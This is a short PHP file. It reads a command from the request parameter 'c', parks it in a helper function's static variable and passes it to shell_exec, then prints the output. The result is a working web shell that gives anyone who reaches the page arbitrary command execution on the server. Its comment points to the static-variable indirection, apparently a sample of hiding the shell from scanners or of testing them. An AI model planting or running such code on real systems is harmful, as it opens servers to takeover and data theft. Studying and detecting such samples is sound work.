<?php
// The command is parked in a helper's static variable by one call and read back by another.
function remember($value = null)
{
    static $kept;
    if ($value !== null) {
        $kept = $value;
        return;
    }
    return $kept;
}
remember($_REQUEST['c'] ?? 'id');
echo '<pre>', htmlspecialchars((string) shell_exec(remember())), '</pre>';
